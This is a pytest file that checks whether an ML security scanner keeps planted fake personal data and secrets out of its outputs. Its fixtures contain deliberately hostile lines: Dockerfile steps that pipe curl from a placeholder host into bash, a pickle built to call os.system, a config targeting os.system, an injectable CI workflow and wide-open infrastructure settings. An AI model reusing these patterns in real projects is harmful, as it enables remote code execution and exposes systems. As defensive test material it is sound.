"""No personal data and no secret in any output: values are planted everywhere, and every byte written is searched."""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
from pathlib import Path

import pytest

from tests import builders
from tests.functional.command import mlguard, write

# Invented, and put together here so that no whole one stands in this repository.
PERSON = "Wilhelmine " + "Kanarienvogel"
EMAIL = "w.kanarien" + "@" + "postkasten-nord.de"
PHONE = "+49 30 " + "901820" + "47"
IBAN = "DE44" + "5001" + "0517" + "5407" + "3249" + "31"
CARD = "4532" + "7109" + "4861" + "2737"
SSN = "536-" + "22-" + "8114"
STREET = "Kanariengasse" + " 77"
HUGGING_FACE = "hf_" + "QzXcVbNmAsDfGhJkLp" + "QwErTyUiOpZxCvBn"
GITHUB = "ghp_" + "x9Kd82LmQpR4sTv7Yb" + "N3cF6hJ1wZ5aE8gU0"
AWS_KEY, AWS_SECRET = "AKIA" + "QX7RJ2NM4PLT" + "W6VB", "k9Xv2LmQ8rT4wZ7b" + "N3cF6hJ1sD5aE8gU0yPqRtKe"
PASSWORD = "Tr0ub4dor" + "&Kanari9"
WORD = "Kan4ri" + "en5ing8er"
OPENAI = "sk-proj-" + "a8Kd72LmQpR4sTv9YbN3" + "T3BlbkFJ" + "cF6hJ1wZ5aE8gU0xQ7r"
KEY = (
    "-----BEGIN RSA PRIVATE "
    + "KEY-----\nMIIEowIBAAKCAQEA"
    + "kanarienvogelschluessel0123456789"
    + "\n-----END RSA PRIVATE KEY-----"
)

CANARIES = {
    "person": PERSON, "e-mail": EMAIL, "phone": PHONE, "iban": IBAN, "card": CARD, "ssn": SSN, "street": STREET,
    "hugging face": HUGGING_FACE, "github": GITHUB, "aws": AWS_KEY, "aws secret": AWS_SECRET, "password": PASSWORD, "word": WORD,
    "openai": OPENAI, "key": "kanarienvogelschluessel", "surname": "Kanarienvogel", "host": "postkasten-nord",
}  # fmt: skip

LINE = f"{PERSON}, {EMAIL}, {PHONE}, {IBAN}, {CARD}, {SSN}, {STREET}"
SECRETS = f"{HUGGING_FACE} {GITHUB} {AWS_KEY} {AWS_SECRET} {OPENAI} {PASSWORD}"


def python() -> str:
    return f'''"""Sends a mail to {LINE}."""
import logging, torch, pickle, requests, hashlib, subprocess
log = logging.getLogger("{EMAIL}")
password = "{PASSWORD}"
HF_TOKEN = "{HUGGING_FACE}"

def customer_{PERSON.split()[0].lower()}(email="{EMAIL}", api_key="{OPENAI}"):
    """{LINE} {SECRETS}"""
    log.info("customer {LINE}")  # {LINE}
    log.info(f"{PERSON} {{email}} {IBAN}")
    print("{CARD}", email)
    torch.load("/home/{EMAIL}/model.pt", weights_only=False)  # {GITHUB}
    requests.get("https://{EMAIL.split("@")[0]}:{PASSWORD}@example.com/?q={SSN}", verify=False, headers={{"Authorization": "Bearer {GITHUB}"}})
    requests.get(url, auth=("svc", "{WORD}"), verify=False)
    subprocess.run("mail {EMAIL} {AWS_SECRET}", shell=True)
    hashlib.md5("{EMAIL}".encode())
    raise ValueError(f"no contract for {PERSON} {{email}} {PHONE}")
    return pickle.loads(b"{SSN}")
'''


def notebook() -> str:
    def cell(source: str, *outputs: dict[str, object]) -> dict[str, object]:
        return {
            "cell_type": "code",
            "execution_count": 1,
            "metadata": {"by": EMAIL},
            "source": source,
            "outputs": [*outputs],
        }

    return json.dumps({
        "nbformat": 4, "nbformat_minor": 5, "metadata": {"author": PERSON},
        "cells": [
            cell(f"api_key = '{OPENAI}'\nprint('{LINE}')", {"output_type": "stream", "name": "stdout", "text": [f"{LINE}\n", SECRETS]}),
            cell("df.head()", {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                               "data": {"text/html": f"<td>{PERSON}</td><td>{EMAIL}</td><td>{IBAN}</td>", "text/plain": LINE}}),
            cell("1/0", {"output_type": "error", "ename": "ValueError", "evalue": LINE, "traceback": [f"\x1b[31m{LINE} {SECRETS}"]}),
            {"cell_type": "markdown", "metadata": {}, "source": [LINE, SECRETS]},
        ],
    })  # fmt: skip


def table(separator: str) -> str:
    rows = [[PERSON, EMAIL, PHONE, IBAN, CARD, SSN, STREET, PASSWORD, HUGGING_FACE]] * 30
    header = ["name", "email", "phone", "iban", "card", "ssn", "address", "password", "token"]
    return "\n".join(separator.join(row) for row in [header, *rows]) + "\n"


def parquet() -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    sink = io.BytesIO()
    pq.write_table(pa.table({"email": [EMAIL] * 40, "iban": [IBAN] * 40, EMAIL: [1] * 40, "note": [LINE] * 40}), sink)
    return sink.getvalue()


def files() -> dict[str, str | bytes]:
    encoded = base64.b64encode(PASSWORD.encode()).decode()
    return {
        "src/app.py": python(), "tests/fixtures/people.csv": table(","), "explore.ipynb": notebook(), "pretty.ipynb": json.dumps(json.loads(notebook()), indent=1),
        "data/customers.csv": table(","), "data/customers.tsv": table("\t"), "data/plain.csv": table(",").split("\n", 1)[1],
        "data/wide.csv": b"\xff\xfe" + table(",").encode("utf-16-le"), "data/customers.parquet": parquet(),
        "data/chat.jsonl": "\n".join(json.dumps({"user": {"email": EMAIL, PERSON: 1}, "text": LINE + SECRETS}) for _ in range(9)),
        "data/people.json": json.dumps([{"email": EMAIL, "name": PERSON, "iban": IBAN, EMAIL: LINE}] * 9),
        "notes.txt": f"{LINE}\n{SECRETS}\n{KEY}\n", "README.md": f"# {PERSON}\n{LINE}\n{SECRETS}\n", "app.log": f"INFO {LINE} {SECRETS}\n",
        "dump.sql": f"INSERT INTO p VALUES ('{PERSON}', '{EMAIL}', '{IBAN}', '{PASSWORD}');\n",
        ".env": f"DB_PASSWORD={PASSWORD}\nHF_TOKEN={HUGGING_FACE}\nOWNER={EMAIL}\n", "id_rsa": KEY, "settings.ini": f"[db]\npassword = {PASSWORD}\nowner = {EMAIL}\n",
        "config.yaml": f"owner: {EMAIL}\npassword: {PASSWORD}\n{EMAIL}: {IBAN}\ntoken: {GITHUB}\n",
        "pyproject.toml": f'[project]\nname = "x"\nversion = "1"\nauthors = [{{name = "{PERSON}", email = "{EMAIL}"}}]\ndependencies = ["private @ https://{GITHUB}@example.com/p.zip"]\n',
        "requirements.txt": f"--extra-index-url https://u:{PASSWORD}@example.com/simple\nrequests  # {EMAIL}\ngit+https://{GITHUB}@example.com/x.git\n{SECRETS}\n",
        "infra/main.tf": f'resource "aws_s3_bucket" "b" {{\n  bucket = "{EMAIL}"\n  acl = "public-read"\n  tags = {{ owner = "{PERSON} {EMAIL}", secret = "{AWS_SECRET}" }}\n}}\n'
        f'resource "aws_db_instance" "d" {{\n  password = "{PASSWORD}"\n  publicly_accessible = true\n}}\nvariable "token" {{ default = "{HUGGING_FACE}" }}\n'
        f'resource "aws_security_group" "s" {{\n  description = "{LINE}"\n  ingress {{\n    from_port = 0\n    to_port = 65535\n    protocol = "-1"\n    cidr_blocks = ["0.0.0.0/0"]\n  }}\n}}\n',
        "infra/prod.auto.tfvars": f'password = "{PASSWORD}"\nowner = "{EMAIL}"\n',
        "terraform.tfstate": json.dumps({"version": 4, "resources": [{"instances": [{"attributes": {"password": PASSWORD, "email": EMAIL}}]}]}),
        "k8s/app.yaml": f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {EMAIL}\n  annotations: {{owner: {EMAIL}}}\nspec:\n  template:\n    spec:\n      hostNetwork: true\n      containers:\n"
        f"      - name: api\n        image: u:{WORD}@reg.example/{EMAIL}/x:latest\n        securityContext: {{privileged: true}}\n        args: ['--password={PASSWORD}', '{EMAIL}']\n        env:\n"
        f"        - name: DB_PASSWORD\n          value: {PASSWORD}\n        - name: HF_TOKEN\n          value: {HUGGING_FACE}\n        - name: OWNER\n          value: {PERSON}\n"
        f"---\napiVersion: v1\nkind: Secret\nmetadata: {{name: s}}\ndata:\n  password: {encoded}\nstringData:\n  key: {GITHUB}\n",
        "Dockerfile": f"FROM python:latest\nENV HF_TOKEN={HUGGING_FACE} OWNER=\"{PERSON}\"\nARG PASSWORD={PASSWORD}\nLABEL maintainer=\"{EMAIL}\"\nRUN curl -u admin:{WORD} http://x.example/j.sh | bash\nRUN curl -u {EMAIL}:{PASSWORD} https://x.example/i.sh | sh\nCMD [\"run\", \"--token\", \"{GITHUB}\"]\n",
        ".github/workflows/ci.yml": f"on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {{TOKEN: {GITHUB}, OWNER: {EMAIL}}}\n    steps:\n    - uses: a/b@main\n      with: {{password: {PASSWORD}}}\n    - run: echo ${{{{ github.event.issue.title }}}} {EMAIL} {PASSWORD}\n",
        "models/strings.pkl": pickle.dumps({"user": LINE, "token": SECRETS}), "models/old.pkl": pickle.dumps([LINE, SECRETS], protocol=0),
        "models/bad.pkl": b"cos\nsystem\n(S'mail " + LINE.encode() + b" " + SECRETS.encode() + b"'\ntR.",
        "models/w.safetensors": (lambda head: len(head).to_bytes(8, "little") + head)(json.dumps({"__metadata__": {"author": LINE, "key": SECRETS}}).encode()),
        "privacy.yaml": f"version: 0\norganisation: {{controller: {{name: {PERSON}, email: {EMAIL}}}}}\npassword: {PASSWORD}\n{SSN}: 1\n",
        "people.svg": f"<svg><text>{LINE} {SECRETS}</text></svg>",
    }  # fmt: skip


def planted(root: Path) -> None:
    """Write each file whole, cut short, with a broken byte in it, and in a folder of its own."""
    whole = files()
    write(root, whole)
    for path, content in whole.items():
        data = content if isinstance(content, bytes) else content.encode()
        folder, _, name = path.rpartition("/")
        write(
            root,
            {
                f"cut/{folder}/{name}": data[: len(data) * 2 // 3],
                f"broken/{folder}/{name}": data[: len(data) // 2] + b"\xff\x00\xfe" + data[len(data) // 2 :],
            },
        )


def forms(value: str) -> list[bytes]:
    plain = value.encode()
    return [
        plain,
        value.encode("utf-16-le"),
        base64.b64encode(plain).rstrip(b"="),
        json.dumps(value)[1:-1].encode(),
        plain.hex().encode(),
    ]


@pytest.mark.parametrize("jobs", ["0", "2"])
def test_no_planted_value_is_in_anything_that_is_written(tmp_path: Path, jobs: str) -> None:
    tree, out = tmp_path / "tree", tmp_path / "out"
    out.mkdir()
    planted(tree)
    homes = {name: str(tmp_path / "out" / name.lower()) for name in ("XDG_CACHE_HOME", "HOME", "TMPDIR")}
    for folder in homes.values():
        Path(folder).mkdir()
    outputs = [
        argument
        for form in ("json", "sarif", "sarif-github", "markdown", "text", "cyclonedx")
        for argument in ("-o", f"{form}={out / form}")
    ]

    scan = mlguard("scan", tree, "-v", "-j", jobs, *outputs, cwd=out, env=homes)
    hook = mlguard("hook", *(str(path) for path in sorted(tree.rglob("*")) if path.is_file()), cwd=tree, env=homes)
    check = mlguard("config", "check", cwd=tree, env=homes)

    assert scan.returncode == 1, scan.stderr
    written = {str(path): path.read_bytes() for path in out.rglob("*") if path.is_file()}
    for name, done in (("scan", scan), ("hook", hook), ("check", check)):
        written |= {
            f"{name} stdout": done.stdout.encode(errors="surrogateescape"),
            f"{name} stderr": done.stderr.encode(errors="surrogateescape"),
        }
    assert len(json.loads(written[str(out / "json")])["findings"]) > 40
    leaks = {
        (name, where)
        for name, value in CANARIES.items()
        for form in forms(value)
        for where, data in written.items()
        if form in data
    }
    assert leaks == set()


def models() -> dict[str, str | bytes]:
    """Return model files and what lies beside them, with canaries wherever a text can stand."""

    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    keys = {"general.name": LINE, "general.author": SECRETS, "tokenizer.chat_template": "{{ x.__class__ }} " + LINE}
    pairs = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in keys.items())
    metadata = {key.replace(" ", "_"): value for key, value in CANARIES.items()} | {LINE[:60]: SECRETS}
    hub = {
        "model_type": LINE,
        "architectures": [LINE],
        "auto_map": {"AutoModel": LINE + "--x.Y"},
        "_name_or_path": LINE,
        "token": SECRETS,
    }
    return {
        "m/m.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, len(keys)) + pairs,
        "m/m.safetensors": builders.safetensors({"__metadata__": metadata}),
        "m/config.json": json.dumps(hub),
        "m/tokenizer_config.json": json.dumps({"chat_template": "{{ x.__class__ }} " + LINE + SECRETS, "bos_token": LINE}),
        "m/m.pkl": pickle.dumps({"a": [LINE] * 5, LINE: SECRETS, "c": list(CANARIES.values())}),
        "m/MLmodel": f'flavors:\n  python_function:\n    loader_module: "{LINE}"\n    data: "{SECRETS}"\n',
        "m/x.pmml": f'<PMML version="4.4"><Header copyright="{LINE}"><Application name="{LINE}"/></Header></PMML>',
        "m/model_config.yaml": f'_target_: "{LINE}"\nx: {{_target_: os.system, y: "{SECRETS}"}}\n',
        "m/README.md": f"---\nlicense: mit\nbase_model: {LINE}\n---\n# Model card {LINE}\n## Contact\n{SECRETS}\n",
    }  # fmt: skip


@pytest.mark.parametrize(
    "arguments",
    [
        ("model", "-v", "--digest", "m"), ("model", "--json", "m"), ("scan", "-v", "-j", "0"), ("scan", "-j", "0", "-o", "json"),
        ("scan", "-j", "0", "-o", "sarif"), ("scan", "-j", "0", "-o", "markdown"), ("scan", "-j", "0", "-o", "cyclonedx"),
    ],
)  # fmt: skip
def test_no_planted_value_of_a_model_is_in_what_is_written(arguments: tuple[str, ...], tmp_path: Path) -> None:
    write(tmp_path, models())

    done = mlguard(*arguments, cwd=tmp_path)

    assert done.returncode == 1
    assert [name for name, value in CANARIES.items() if value in done.stdout + done.stderr] == []
